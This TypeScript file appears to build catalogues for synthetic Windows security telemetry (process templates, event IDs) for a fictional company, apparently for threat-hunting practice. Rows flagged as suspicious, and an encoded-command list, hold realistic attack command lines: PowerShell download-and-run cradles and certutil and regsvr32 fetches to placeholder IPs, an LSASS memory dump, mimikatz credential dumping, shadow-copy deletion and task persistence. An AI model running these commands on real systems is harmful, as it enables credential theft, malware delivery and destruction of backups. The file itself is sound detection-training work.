/**
 * Static catalogues: Windows processes, events, apps, destinations, alerts.
 * Placeholders in command lines are filled per row in SQL:
 * {user} (sam), {host} (short name), {n} (a number), {guid}, {b64} (an encoded PowerShell command).
 */
import { hexOf } from './org.ts';

const SYS32 = 'C:\\Windows\\System32\\';
const MS = 'Microsoft Corporation';
const WINPROD = 'Microsoft® Windows® Operating System';

export interface ProcTemplate {
  parent: string; // full path of the initiating process
  grandparent: string; // file name of its parent
  path: string; // full path of the new process
  cmd: string;
  parentCmd: string;
  weight: number;
  /** who runs it: a signed-in user, SYSTEM, an IT admin, a service account */
  account: 'user' | 'system' | 'admin' | 'service';
  hosts: 'any' | 'workstation' | 'server';
  company: string;
  product: string;
  description: string;
  version: string;
  size: number;
  /** suspicious by design (for hunting) */
  bad: boolean;
}

type P = Omit<ProcTemplate, 'company' | 'product' | 'description' | 'version' | 'size' | 'bad' | 'grandparent' | 'parentCmd'> & Partial<ProcTemplate>;

const EXPLORER = 'C:\\Windows\\explorer.exe';
const SERVICES = `${SYS32}services.exe`;
const SVCHOST = `${SYS32}svchost.exe`;
const CMD = `${SYS32}cmd.exe`;
const PS = `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
const OUTLOOK = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';
const CCM = 'C:\\Windows\\CCM\\CcmExec.exe';
const WMI = `${SYS32}wbem\\WmiPrvSE.exe`;

const raw: P[] = [
  { parent: SERVICES, path: SVCHOST, cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', weight: 40, account: 'system', hosts: 'any' },
  { parent: SERVICES, path: SVCHOST, cmd: 'C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p', weight: 25, account: 'system', hosts: 'any' },
  { parent: SVCHOST, path: `${SYS32}taskhostw.exe`, cmd: 'taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly', weight: 30, account: 'system', hosts: 'any' },
  { parent: SVCHOST, path: WMI, cmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding', weight: 25, account: 'system', hosts: 'any' },
  { parent: SVCHOST, path: `${SYS32}backgroundTaskHost.exe`, cmd: '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', weight: 20, account: 'user', hosts: 'workstation' },
  { parent: SVCHOST, path: `${SYS32}RuntimeBroker.exe`, cmd: 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', weight: 25, account: 'user', hosts: 'workstation' },
  { parent: `${SYS32}SearchIndexer.exe`, path: `${SYS32}SearchProtocolHost.exe`, cmd: '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"', weight: 18, account: 'system', hosts: 'workstation' },
  { parent: EXPLORER, path: CHROME, cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', weight: 30, account: 'user', hosts: 'workstation', company: 'Google LLC', product: 'Google Chrome', description: 'Google Chrome', version: '131.0.6778.140' },
  { parent: CHROME, path: CHROME, cmd: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={n} --launch-time-ticks=7814{n} --mojo-platform-channel-handle=4312 --field-trial-handle=1880,i,{n},262144 /prefetch:1', weight: 60, account: 'user', hosts: 'workstation', company: 'Google LLC', product: 'Google Chrome', description: 'Google Chrome', version: '131.0.6778.140' },
  { parent: EXPLORER, path: EDGE, cmd: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument https://intranet.larkspur.example/', weight: 20, account: 'user', hosts: 'workstation', product: 'Microsoft Edge', description: 'Microsoft Edge', version: '131.0.2903.99' },
  { parent: EDGE, path: EDGE, cmd: '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle=2036,i,{n},131072 /prefetch:3', weight: 35, account: 'user', hosts: 'workstation', product: 'Microsoft Edge', description: 'Microsoft Edge', version: '131.0.2903.99' },
  { parent: EXPLORER, path: OUTLOOK, cmd: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE"', weight: 10, account: 'user', hosts: 'workstation', product: 'Microsoft Outlook', description: 'Microsoft Outlook', version: '16.0.17928.20156' },
  { parent: EXPLORER, path: WORD, cmd: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\Shipment schedule Q{n}.docx"', weight: 8, account: 'user', hosts: 'workstation', product: 'Microsoft Office', description: 'Microsoft Word', version: '16.0.17928.20156' },
  { parent: OUTLOOK, path: EXCEL, cmd: '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2J8Q1ZD\\Invoice_{n}.xlsx"', weight: 6, account: 'user', hosts: 'workstation', product: 'Microsoft Office', description: 'Microsoft Excel', version: '16.0.17928.20156' },
  { parent: EXPLORER, path: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', cmd: '"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --system-initiated', weight: 10, account: 'user', hosts: 'workstation', product: 'Microsoft Teams', description: 'Microsoft Teams', version: '1.7.00.13456' },
  { parent: EXPLORER, path: 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe', cmd: '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', weight: 8, account: 'user', hosts: 'workstation', product: 'Microsoft OneDrive', description: 'Microsoft OneDrive', version: '24.226.1110.0004' },
  { parent: EXPLORER, path: CMD, cmd: '"C:\\Windows\\system32\\cmd.exe"', weight: 5, account: 'user', hosts: 'any' },
  { parent: CMD, path: `${SYS32}conhost.exe`, cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', weight: 14, account: 'user', hosts: 'any' },
  { parent: CMD, path: `${SYS32}ipconfig.exe`, cmd: 'ipconfig  /all', weight: 3, account: 'user', hosts: 'any' },
  { parent: CMD, path: `${SYS32}ping.exe`, cmd: 'ping  -n 4 lk-fs01.larkspur.example', weight: 3, account: 'user', hosts: 'any' },
  { parent: EXPLORER, path: PS, cmd: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"', weight: 3, account: 'admin', hosts: 'any' },
  { parent: CCM, path: PS, cmd: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo -NonInteractive -ExecutionPolicy Bypass -File "C:\\Windows\\CCM\\SystemTemp\\{guid}.ps1"', weight: 9, account: 'system', hosts: 'any', grandparent: 'services.exe' },
  { parent: CCM, path: `${SYS32}msiexec.exe`, cmd: 'C:\\Windows\\system32\\msiexec.exe /i "C:\\Windows\\ccmcache\\2f\\LarkspurAgent-4.{n}.msi" /qn /norestart', weight: 2, account: 'system', hosts: 'any', grandparent: 'services.exe' },
  { parent: `${SYS32}msiexec.exe`, path: `${SYS32}msiexec.exe`, cmd: 'C:\\Windows\\System32\\MsiExec.exe -Embedding 3F1A2C{n} E Global\\MSI0000', weight: 3, account: 'system', hosts: 'any' },
  { parent: SVCHOST, path: 'C:\\Windows\\servicing\\TrustedInstaller.exe', cmd: 'C:\\Windows\\servicing\\TrustedInstaller.exe', weight: 2, account: 'system', hosts: 'any' },
  { parent: SVCHOST, path: `${SYS32}sppsvc.exe`, cmd: 'C:\\Windows\\system32\\sppsvc.exe', weight: 4, account: 'system', hosts: 'any' },
  { parent: SERVICES, path: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe', cmd: '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"', weight: 2, account: 'system', hosts: 'any', description: 'Antimalware Service Executable', version: '4.18.24090.11' },
  { parent: SVCHOST, path: `${SYS32}gpupdate.exe`, cmd: 'gpupdate.exe /target:computer', weight: 2, account: 'system', hosts: 'any' },
  { parent: `${SYS32}winlogon.exe`, path: `${SYS32}userinit.exe`, cmd: 'C:\\Windows\\system32\\userinit.exe', weight: 4, account: 'user', hosts: 'any', grandparent: 'smss.exe' },
  { parent: `${SYS32}userinit.exe`, path: EXPLORER, cmd: 'C:\\Windows\\Explorer.EXE', weight: 4, account: 'user', hosts: 'any', grandparent: 'winlogon.exe' },
  { parent: SERVICES, path: 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', cmd: '"C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER', weight: 1, account: 'service', hosts: 'server', product: 'Microsoft SQL Server', description: 'SQL Server Windows NT - 64 Bit', version: '2022.160.4135.4' },
  { parent: `${SYS32}inetsrv\\w3wp.exe`, path: CMD, cmd: 'cmd.exe /c "C:\\inetpub\\scripts\\rotate-logs.cmd"', weight: 1, account: 'service', hosts: 'server', grandparent: 'svchost.exe' },
  { parent: SERVICES, path: 'C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe', cmd: '"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe"', weight: 1, account: 'service', hosts: 'server', company: 'Veeam Software Group GmbH', product: 'Veeam Backup & Replication', description: 'Veeam Backup Service', version: '12.2.0.334' },
  { parent: EXPLORER, path: `${SYS32}mstsc.exe`, cmd: '"C:\\Windows\\system32\\mstsc.exe" /v:lk-jump01.larkspur.example', weight: 2, account: 'admin', hosts: 'workstation' },
  { parent: EXPLORER, path: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', cmd: '"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"', weight: 3, account: 'user', hosts: 'workstation', product: 'Visual Studio Code', description: 'Visual Studio Code', version: '1.96.2' },
  { parent: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', path: 'C:\\Program Files\\Git\\cmd\\git.exe', cmd: 'git.exe fetch --all --prune', weight: 3, account: 'user', hosts: 'workstation', company: 'The Git Development Community', product: 'Git', description: 'Git for Windows', version: '2.47.1.1' },
  { parent: PS, path: `${SYS32}whoami.exe`, cmd: '"C:\\Windows\\system32\\whoami.exe" /groups', weight: 0.6, account: 'admin', hosts: 'any' },
  { parent: `${SYS32}runas.exe`, path: `${SYS32}mmc.exe`, cmd: '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"', weight: 1, account: 'admin', hosts: 'any' },
  { parent: `${SYS32}schtasks.exe`, path: `${SYS32}schtasks.exe`, cmd: 'schtasks.exe /query /fo LIST /v', weight: 0.5, account: 'admin', hosts: 'any' },
  // suspicious, rare
  { parent: CMD, path: `${SYS32}net.exe`, cmd: 'net  group "Domain Admins" /domain', weight: 0.25, account: 'user', hosts: 'workstation', bad: true },
  { parent: `${SYS32}net.exe`, path: `${SYS32}net1.exe`, cmd: 'C:\\Windows\\system32\\net1  user /domain', weight: 0.2, account: 'user', hosts: 'workstation', bad: true, grandparent: 'cmd.exe' },
  { parent: CMD, path: `${SYS32}nltest.exe`, cmd: 'nltest  /dclist:larkspur.example', weight: 0.1, account: 'user', hosts: 'workstation', bad: true },
  { parent: WORD, path: PS, cmd: 'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64}', weight: 0.06, account: 'user', hosts: 'workstation', bad: true, grandparent: 'explorer.exe' },
  { parent: `${SYS32}wscript.exe`, path: PS, cmd: 'powershell.exe -nop -w hidden -enc {b64}', weight: 0.05, account: 'user', hosts: 'workstation', bad: true, grandparent: 'explorer.exe' },
  { parent: CMD, path: `${SYS32}certutil.exe`, cmd: 'certutil.exe -urlcache -split -f http://203.0.113.66/update.bin C:\\Users\\Public\\update.exe', weight: 0.04, account: 'user', hosts: 'workstation', bad: true },
  { parent: EXPLORER, path: `${SYS32}rundll32.exe`, cmd: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Windows\\Temp\\lsass.dmp full', weight: 0.02, account: 'admin', hosts: 'any', bad: true },
  { parent: CMD, path: `${SYS32}vssadmin.exe`, cmd: 'vssadmin.exe delete shadows /all /quiet', weight: 0.01, account: 'admin', hosts: 'server', bad: true },
  { parent: `${SYS32}mshta.exe`, path: `${SYS32}regsvr32.exe`, cmd: 'regsvr32.exe /s /n /u /i:http://198.51.100.77/file.sct scrobj.dll', weight: 0.02, account: 'user', hosts: 'workstation', bad: true },
  { parent: CMD, path: `${SYS32}schtasks.exe`, cmd: 'schtasks.exe /create /sc minute /mo 30 /tn "OneDriveUpdateCheck" /tr "C:\\Users\\Public\\update.exe" /f', weight: 0.03, account: 'user', hosts: 'workstation', bad: true },
  { parent: PS, path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\mm.exe', cmd: 'mm.exe "privilege::debug" "sekurlsa::logonpasswords" exit', weight: 0.01, account: 'admin', hosts: 'any', bad: true, company: '', product: '', description: '', version: '' },
];

function fileName(p: string): string {
  return p.slice(p.lastIndexOf('\\') + 1);
}

const PARENT_CMD: Record<string, string> = {
  'explorer.exe': 'C:\\Windows\\Explorer.EXE',
  'services.exe': 'C:\\Windows\\system32\\services.exe',
  'svchost.exe': 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
  'cmd.exe': '"C:\\Windows\\system32\\cmd.exe"',
  'powershell.exe': '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"',
  'CcmExec.exe': 'C:\\Windows\\CCM\\CcmExec.exe',
  'WINWORD.EXE': '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\Invoice_{n}.doc"',
  'OUTLOOK.EXE': '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\OUTLOOK.EXE"',
  'chrome.exe': '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
  'msedge.exe': '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"',
  'wscript.exe': '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\{user}\\Downloads\\scan_{n}.js"',
  'mshta.exe': '"C:\\Windows\\system32\\mshta.exe" http://198.51.100.77/p.hta',
  'w3wp.exe': 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll"',
};

const GRANDPARENT: Record<string, string> = {
  'explorer.exe': 'userinit.exe',
  'services.exe': 'wininit.exe',
  'svchost.exe': 'services.exe',
  'cmd.exe': 'explorer.exe',
  'powershell.exe': 'explorer.exe',
  'chrome.exe': 'explorer.exe',
  'msedge.exe': 'explorer.exe',
  'OUTLOOK.EXE': 'explorer.exe',
  'SearchIndexer.exe': 'services.exe',
};

export const PROCESSES: (ProcTemplate & { file: string; parentFile: string; sha256: string; sha1: string; md5: string; parentSha256: string })[] = raw.map((p) => {
  const file = fileName(p.path);
  const parentFile = fileName(p.parent);
  const microsoft = p.company === undefined;
  return {
    ...p,
    grandparent: p.grandparent ?? GRANDPARENT[parentFile] ?? 'explorer.exe',
    parentCmd: p.parentCmd ?? PARENT_CMD[parentFile] ?? p.parent,
    company: p.company ?? MS,
    product: p.product ?? (microsoft ? WINPROD : ''),
    description: p.description ?? file.replace(/\.exe$/i, ''),
    version: p.version ?? '10.0.22621.4541',
    size: p.size ?? 20000 + (parseInt(hexOf(file, 'md5').slice(0, 6), 16) % 3_000_000),
    bad: p.bad ?? false,
    file,
    parentFile,
    sha256: hexOf(`file:${file}:${p.version ?? ''}`),
    sha1: hexOf(`file:${file}:${p.version ?? ''}`, 'sha1'),
    md5: hexOf(`file:${file}:${p.version ?? ''}`, 'md5'),
    parentSha256: hexOf(`file:${parentFile}:`),
  };
});

/** PowerShell -EncodedCommand payloads (UTF-16LE base64, as powershell.exe expects). */
export const ENCODED_COMMANDS: string[] = [
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')",
  "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAMtIzcnJBwCGphA2BQAAAA=='));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
  "Invoke-WebRequest -Uri http://198.51.100.77/stage2.exe -OutFile $env:TEMP\\svc.exe; Start-Process $env:TEMP\\svc.exe",
  'Get-ADComputer -Filter * -Properties * | Export-Csv C:\\Users\\Public\\c.csv',
].map((c) => Buffer.from(c, 'utf16le').toString('base64'));

export interface EventDef {
  id: number;
  text: string;
  weight: number; // per 100k
  where: 'dc' | 'any' | 'server' | 'rds';
  task: number;
  failure?: boolean;
}

/** Windows Security EventIDs with a realistic mix (weights per 100,000 events). */
export const EVENTS: EventDef[] = [
  { id: 4624, text: 'An account was successfully logged on.', weight: 29000, where: 'any', task: 12544 },
  { id: 4634, text: 'An account was logged off.', weight: 18000, where: 'any', task: 12545 },
  { id: 4688, text: 'A new process has been created.', weight: 16000, where: 'any', task: 13312 },
  { id: 4672, text: 'Special privileges assigned to new logon.', weight: 11000, where: 'any', task: 12548 },
  { id: 4769, text: 'A Kerberos service ticket was requested.', weight: 7500, where: 'dc', task: 14337 },
  { id: 4768, text: 'A Kerberos authentication ticket (TGT) was requested.', weight: 4000, where: 'dc', task: 14339 },
  { id: 4776, text: 'The computer attempted to validate the credentials for an account.', weight: 3500, where: 'dc', task: 14336 },
  { id: 4625, text: 'An account failed to log on.', weight: 3200, where: 'any', task: 12544, failure: true },
  { id: 4648, text: 'A logon was attempted using explicit credentials.', weight: 2500, where: 'any', task: 12544 },
  { id: 5140, text: 'A network share object was accessed.', weight: 2200, where: 'server', task: 12808 },
  { id: 4798, text: "A user's local group membership was enumerated.", weight: 900, where: 'any', task: 13824 },
  { id: 4799, text: 'A security-enabled local group membership was enumerated.', weight: 700, where: 'any', task: 13826 },
  { id: 4738, text: 'A user account was changed.', weight: 60, where: 'dc', task: 13824 },
  { id: 4740, text: 'A user account was locked out.', weight: 40, where: 'dc', task: 13824 },
  { id: 4724, text: "An attempt was made to reset an account's password.", weight: 30, where: 'dc', task: 13824 },
  { id: 4697, text: 'A service was installed in the system.', weight: 20, where: 'any', task: 12289 },
  { id: 4720, text: 'A user account was created.', weight: 12, where: 'dc', task: 13824 },
  { id: 4722, text: 'A user account was enabled.', weight: 12, where: 'dc', task: 13824 },
  { id: 4732, text: 'A member was added to a security-enabled local group.', weight: 10, where: 'any', task: 13826 },
  { id: 4728, text: 'A member was added to a security-enabled global group.', weight: 6, where: 'dc', task: 13826 },
  { id: 4719, text: 'System audit policy was changed.', weight: 3, where: 'any', task: 13568 },
  { id: 1102, text: 'The audit log was cleared.', weight: 2, where: 'any', task: 104 },
];
